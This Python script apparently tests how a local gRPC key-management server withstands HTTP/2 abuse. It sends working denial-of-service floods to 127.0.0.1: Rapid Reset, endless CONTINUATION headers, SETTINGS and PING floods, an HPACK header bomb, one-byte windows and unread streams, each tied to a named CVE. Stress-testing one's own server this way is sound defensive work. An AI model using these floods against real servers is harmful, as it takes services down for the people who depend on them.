"""What HTTP/2 lets a client send without end, in frames of our own: each flood is a process that sends for some seconds.

    floods.py KIND PORT SECONDS ADDRESS    prints {"frames": ..., "closed": how the server ended connections, how often}
"""

import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
PATH = "/kmaas.kms.v1.KeyManagementService/ListKeys"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field that goes into no table (RFC 7541 section 6.2.2), short enough for one byte of length each, or with a longer value."""
    def length(size):
        if size < 127:
            return bytes([size])
        out, size = bytearray([127]), size - 127
        while size >= 128:
            out.append(size % 128 + 128)
            size //= 128
        return bytes(out + bytes([size]))
    name, value = name.encode(), value.encode()
    return b"\0" + length(len(name)) + name + length(len(value)) + value


def call_headers(*more):
    fields = [(":method", "POST"), (":scheme", "https"), (":path", PATH), (":authority", "localhost"),
              ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    def __init__(self, port, address):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(address, 0))
        self.tls = context.wrap_socket(plain, server_hostname="localhost")
        self.tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.next = 1

    def stream(self):
        self.next += 2
        return self.next - 2

    def drain(self):
        """Throws away what the server has said so far."""
        self.tls.settimeout(0)
        try:
            while self.tls.recv(65536):
                pass
            raise ConnectionError("closed")
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            self.tls.settimeout(5)


def rapid_reset(connection):
    """CVE-2023-44487: calls that are cancelled as soon as they are begun."""
    headers, out = call_headers(), b""
    for _ in range(100):
        stream = connection.stream()
        out += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
    connection.tls.sendall(out)
    connection.drain()
    return 200


def continuation(connection):
    """CVE-2024-27316 and its like: a header that never ends."""
    if connection.next == 1:
        connection.tls.sendall(frame(HEADERS, 0, connection.stream(), call_headers()))
    connection.tls.sendall(frame(CONTINUATION, 0, connection.next - 2, literal("x-flood", "y" * 1000)) * 100)
    connection.drain()
    return 100


def settings(connection):
    """CVE-2019-9515: each has to be acknowledged, and the acknowledgements are not read."""
    connection.tls.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500)
    return 500


def ping(connection):
    """CVE-2019-9512: the same with pings."""
    connection.tls.sendall(frame(PING, 0, 0, b"12345678") * 500)
    return 500


def header_bomb(connection):
    """HPACK: a field of 4,000 bytes goes into the table once, and is then named by one byte, a thousand times for each call."""
    big = b"\x40" + literal("x-bomb", "z" * 4000)[1:]
    first = connection.stream()
    out = frame(HEADERS, END_HEADERS | END_STREAM, first, call_headers() + big)
    for _ in range(20):
        out += frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), call_headers() + b"\xbe" * 1000)
    connection.tls.sendall(out)
    connection.drain()
    return 21


def one_byte_window(connection):
    """CVE-2019-9511: answers may be sent a byte at a time only, so they pile up."""
    if connection.next == 1:
        connection.tls.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)))
    out, message = b"", frame(DATA, END_STREAM, 0, b"\0\0\0\0\0")
    for _ in range(50):
        stream = connection.stream()
        out += frame(HEADERS, END_HEADERS, stream, call_headers()) + message[:5] + struct.pack(">I", stream) + message[9:]
    connection.tls.sendall(out)
    connection.drain()
    return 100


def unread_streams(connection):
    """Calls that are begun and never sent a message."""
    headers, out = call_headers(), b""
    for _ in range(100):
        out += frame(HEADERS, END_HEADERS, connection.stream(), headers)
    connection.tls.sendall(out)
    connection.drain()
    return 100


KINDS = {function.__name__: function for function in
         (rapid_reset, continuation, settings, ping, header_bomb, one_byte_window, unread_streams)}


def flood(kind, port, seconds, address):
    end, frames, closed, connection = time.monotonic() + seconds, 0, 0, None
    while time.monotonic() < end:
        try:
            connection = connection or Connection(port, address)
            frames += KINDS[kind](connection)
        except (OSError, ConnectionError):
            closed += connection is not None
            connection = None
    return {"frames": frames, "closed": closed}


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4])))
